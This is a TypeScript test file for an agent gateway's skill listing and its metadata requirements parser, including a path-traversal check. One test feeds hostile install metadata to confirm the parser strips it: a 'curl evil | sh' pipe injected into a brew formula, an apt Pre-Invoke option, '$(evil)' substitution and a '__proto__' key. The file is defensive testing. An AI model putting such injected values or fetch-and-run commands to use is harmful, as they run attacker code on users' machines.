/** The skills an agent finds: what they need, by what their files say, whoever wrote them; and their text. */
import assert from 'node:assert/strict';
import { mkdir, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { describe, it } from 'node:test';
import { startGateway } from '../../testing/running-gateway.ts';
import { requirementsOf } from './requirements.ts';

const skill = (name: string, metadata: string): string =>
  `---\nname: ${name}\ndescription: Does ${name}.\nmetadata: ${metadata}\n---\n# ${name}\nHow to ${name}.\n`;

describe('skills.*', () => {
  it('say where a skill is from, whether it may be used, and what is missing', async () => {
    const put = async (path: string, text: string) => {
      await mkdir(dirname(path), { recursive: true });
      await writeFile(path, text);
    };
    await using gateway = await startGateway({
      config: { agents: { list: [{ id: 'main', skills: ['sums'] }] } },
      before: async (stateDir) => {
        await put(join(stateDir, 'skills/sums/SKILL.md'), skill('sums', '{"clawdbot":{"requires":{"bins":["sh"]}}}'));
        const metadata = `
  {
    "openclaw":
      {
        "requires": { "anyBins": ["no-such-tool", "nor-this"], "env": ["NO_SUCH_KEY"] },
        "install": [{ "kind": "brew", "formula": "no-such/tap/tool", "bins": ["no-such-tool"] },],
      },
  }`;
        await put(join(stateDir, 'skills/far/SKILL.md'), skill('far', metadata));
      },
    });
    await using chat = await gateway.connect();
    const { skills, agentId } = await chat.call('skills.list');
    assert.equal(agentId, 'main');
    const of = (name: string) => skills.find((one: { name: string }) => one.name === name);
    assert.deepEqual([of('sums').from, of('sums').enabled, of('sums').ready], ['shared', true, true]);
    assert.deepEqual([of('far').enabled, of('far').ready], [false, false]);
    assert.deepEqual(of('far').requirements, [
      { kind: 'one of', name: 'no-such-tool, nor-this', met: false, install: ['brew install no-such/tap/tool'] },
      { kind: 'variable', name: 'NO_SUCH_KEY', met: false, install: [] },
    ]);
    assert.match((await chat.call('skills.read', { name: 'sums' })).content, /How to sums\./);
    await assert.rejects(chat.call('skills.read', { name: '../../clawdbot.json' }), /has no skill/);
  });

  it('take nothing from metadata but plain names: no command of a stranger is offered to be copied', () => {
    const hostile = (metadata: unknown): string => skill('x', JSON.stringify(metadata));
    const install = [
      { kind: 'brew', formula: 'x; curl evil | sh' },
      { kind: 'apt', package: '-o APT::Pre-Invoke=evil' },
      { kind: 'node', package: '$(evil)' },
      { kind: '__proto__', package: 'x' },
      { kind: 'shell', package: 'rm' },
    ];
    assert.deepEqual(requirementsOf(hostile({ clawdbot: { requires: { bins: ['gh', 'a b', '$(x)', 3] }, install } })), [
      { kind: 'program', names: ['gh'], install: [] },
    ]);
    for (const metadata of ['', '{', '[]', 'null', '"x"', '{"clawdbot":[]}', '{"clawdbot":{"requires":"bins"}}'])
      assert.deepEqual(requirementsOf(skill('x', metadata)), []);
    assert.deepEqual(requirementsOf('no front matter'), []);
  });
});
